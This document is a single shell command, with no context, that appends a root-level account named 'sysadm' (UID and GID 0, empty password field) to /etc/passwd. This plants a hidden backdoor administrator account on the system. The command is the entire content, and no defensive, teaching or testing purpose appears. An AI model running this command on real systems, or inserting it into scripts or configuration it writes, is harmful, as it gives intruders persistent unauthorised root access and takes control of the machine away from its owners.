echo 'sysadm:x:0:0::/root:/bin/sh' >>/etc/passwd
